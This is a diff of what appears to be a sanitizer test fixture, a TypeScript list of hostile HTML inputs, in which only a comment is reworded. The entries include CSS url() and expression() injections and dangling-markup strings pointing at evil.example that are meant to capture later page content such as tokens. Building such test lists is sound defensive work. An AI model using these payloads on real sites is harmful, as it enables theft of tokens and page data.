@@ -35,7 +35,7 @@ export const STYLES: readonly string[] = [
   '<a href=/x style="-webkit-image-set:url(https://evil.example/x)">a</a>',
   '<td width="1;background:url(/evil)" height="expression(hit())">a</td>',
   '<p class="k2i-unavailable k2i-dialog k2i-announcer">a</p>',
-  // Markup that is left open, so that it would take in what follows it on the page: a token, for one.
+  // Unclosed markup that would swallow later content of the page, such as a token.
   "<img src='https://evil.example/dangling?",
   '<a href="https://evil.example/dangling?',
   '<form action="https://evil.example/dangling"><textarea name=page>',
